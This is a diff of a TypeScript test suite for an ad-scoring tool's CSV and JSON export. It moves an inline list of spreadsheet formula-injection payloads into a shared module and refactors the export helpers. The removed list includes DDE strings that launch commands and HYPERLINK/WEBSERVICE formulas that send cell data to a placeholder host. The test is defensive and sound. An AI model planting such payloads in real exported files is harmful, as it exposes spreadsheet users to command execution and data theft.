@@ -3,78 +3,9 @@ import { describe, expect, test } from 'vitest';
 import { Ad } from '../../../../src/contract/index.ts';
 import { restoreCell, safeCell } from '../../../../src/main/core/score/cell.ts';
 import { scoreAd } from '../../../../src/main/core/score/engine.ts';
-import { exportCsv, exportJson } from '../../../../src/main/core/score/export.ts';
+import { csvPieces, jsonPieces } from '../../../../src/main/core/score/export.ts';
 import { columns } from '../../../../src/main/core/score/export-columns.ts';
-
-const payloads = [
-  '=1+1',
-  '=cmd|"/c calc"!A0',
-  "=cmd|' /C notepad'!'A1'",
-  '=HYPERLINK("http://example.test?x="&A1,"click")',
-  '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
-  '=WEBSERVICE("http://example.test")',
-  '=DDE("cmd";"/C calc";"x")',
-  '+1+1',
-  '+cmd|"/c calc"!A0',
-  '-1+1',
-  '-2+3+cmd|"/c calc"!A0',
-  '-ad.mp4',
-  '--',
-  '@SUM(1+1)',
-  '@import',
-  '@',
-  '=',
-  '+',
-  '-',
-  "'",
-  "''",
-  "'=1+1",
-  "'quoted'",
-  "' =1",
-  ' =1+1',
-  '   +1',
-  '\u00a0=1',
-  '\u3000=1',
-  '\u2003-1',
-  '\ufeff=1',
-  '\u200b=1',
-  '\u200e@x',
-  '\u202e=1',
-  '\u2028=1',
-  '\t=1',
-  '\ttab first',
-  '\r=1',
-  '\rreturn first',
-  '\n=1',
-  '\nline first',
-  '\r\n=1',
-  '\0=1',
-  '\0nul first',
-  '\u0001=1',
-  '\v=1',
-  '\f=1',
-  '\u001b=1',
-  '\u007f=1',
-  '\uff1d1+1',
-  '\uff0b1',
-  '\uff0d1',
-  '\uff20x',
-  ' \uff1d1',
-  'a;=1+1',
-  'a; =1+1;b',
-  'a\t=1',
-  'a\n=1',
-  'a\r\n@x',
-  "a;'b",
-  'a;-b;+c;@d',
-  '"=1+1"',
-  '","=1+1',
-  '",\r\n=1+1,"',
-  'plain',
-  'a,b "c"',
-  "it's fine",
-  '',
-];
+import { formulas } from '../../../support/hostile-texts.ts';
 
 function ad(overrides: Partial<Ad> = {}): Ad {
   const media: Ad['media'] = {
@@ -131,6 +62,8 @@ const noteOf = (text: string): Ad['notes'][number] => ({
   t1: null,
   created_at: '2026-01-02T03:04:05Z',
 });
+const csv = (...ads: Ad[]): string => csvPieces.head.slice(1) + csvPieces.batch(ads, true) + csvPieces.tail;
+const json = (...ads: Ad[]): string => jsonPieces.head + jsonPieces.batch(ads, true) + jsonPieces.tail;
 
 /** The second route: a reader of RFC 4180, one character at a time. */
 function readCsv(text: string, separator = ','): string[][] {
@@ -172,11 +105,11 @@ const textColumns = columns.flatMap((column, index) => (column.type === 'text' ?
 
 describe('no cell is a formula and every text comes back', () => {
   test('covers more than 60 payloads', () => {
-    expect(new Set(payloads).size).toBe(payloads.length);
-    expect(payloads.length).toBeGreaterThan(60);
+    expect(new Set(formulas).size).toBe(formulas.length);
+    expect(formulas.length).toBeGreaterThan(60);
   });
 
-  test.each(payloads)('%j in each text that a file or an account can set', (payload) => {
+  test.each(formulas)('%j in each text that a file or an account can set', (payload) => {
     const hostile = ad({
       path: payload,
       other_paths: [payload, payload],
@@ -187,7 +120,7 @@ describe('no cell is a formula and every text comes back', () => {
       notes: [noteOf(payload), { ...noteOf(payload), t0: 3.2, t1: 4 }],
       problem: { code: 'DAMAGED', message: payload, next_step: '' },
     });
-    const [header, cells] = readCsv(exportCsv([hostile], { bom: false }).content) as [string[], string[]];
+    const [header, cells] = readCsv(csv(hostile)) as [string[], string[]];
     expect(header).toEqual(columns.map((column) => column.header));
     expect(cells).toHaveLength(columns.length);
     for (const { column, index } of textColumns) {
@@ -245,9 +178,7 @@ describe('no cell is a formula and every text comes back', () => {
 
 test('notes stand one per line with their seconds', () => {
   const notes = [noteOf('too\n long'), { ...noteOf('logo late'), t0: 3.2, t1: 4 }];
-  const cells = readCsv(
-    exportCsv([ad({ notes, tags: ['ugc', 'b'] })], { bom: false }).content,
-  )[1] as string[];
+  const cells = readCsv(csv(ad({ notes, tags: ['ugc', 'b'] })))[1] as string[];
   const cellOf = (header: string) => cells[columns.findIndex((column) => column.header === header)];
   expect(cellOf('notes')).toBe('too long\n3.2-4 s: logo late');
   expect(cellOf('note_count')).toBe('2');
@@ -256,13 +187,11 @@ test('notes stand one per line with their seconds', () => {
 
 describe('numbers stay numbers', () => {
   const cellOf = (header: string, one: Ad): string =>
-    (readCsv(exportCsv([one], { bom: false }).content)[1] as string[])[
-      columns.findIndex((column) => column.header === header)
-    ] as string;
+    (readCsv(csv(one))[1] as string[])[columns.findIndex((column) => column.header === header)] as string;
 
   test('negative ones are not quoted and not marked', () => {
     expect(cellOf('A01', ad())).toBe('-15.25');
-    expect(exportCsv([ad()], { bom: false }).content).toContain(',-15.25,');
+    expect(csv(ad())).toContain(',-15.25,');
   });
 
   test('what is missing is empty, never 0', () => {
@@ -298,9 +227,9 @@ describe('numbers stay numbers', () => {
           score: { ...ad().score, overall: a, interval80: [b, c] },
           features: { A01: { ...(ad().features.A01 as Ad['features'][string]), value: b } },
         });
-        const all = exportCsv([hostile], { bom: false }).content + exportJson([hostile]).content;
+        const all = csv(hostile) + json(hostile);
         expect(all).not.toMatch(/NaN|Infinity/);
-        const cells = readCsv(exportCsv([hostile], { bom: false }).content)[1] as string[];
+        const cells = readCsv(csv(hostile))[1] as string[];
         columns.forEach((column, index) => {
           if (column.type === 'number' && cells[index] !== '')
             expect(Number.isFinite(Number(cells[index]))).toBe(true);
@@ -310,8 +239,8 @@ describe('numbers stay numbers', () => {
   });
 });
 
-test('the byte order mark is there when asked for, once, and lines end in CRLF', () => {
-  const { content } = exportCsv([ad(), ad()], { bom: true });
+test('the byte order mark stands in front, once, and lines end in CRLF', () => {
+  const content = csvPieces.head + csv(ad(), ad()).slice(csvPieces.head.length - 1);
   expect(content.startsWith('\ufeffid,path,')).toBe(true);
   expect(content.indexOf('\ufeff', 1)).toBe(-1);
   expect(content.split('\r\n')).toHaveLength(4);
@@ -323,7 +252,7 @@ test('columns have one name each', () => {
 });
 
 test('JSON holds whole ads with a version', () => {
-  const parsed = JSON.parse(exportJson([ad()]).content) as { version: number; ads: unknown[] };
+  const parsed = JSON.parse(json(ad())) as { version: number; ads: unknown[] };
   expect(parsed.version).toBe(1);
   expect(Ad.parse(parsed.ads[0])).toEqual(ad());
 });
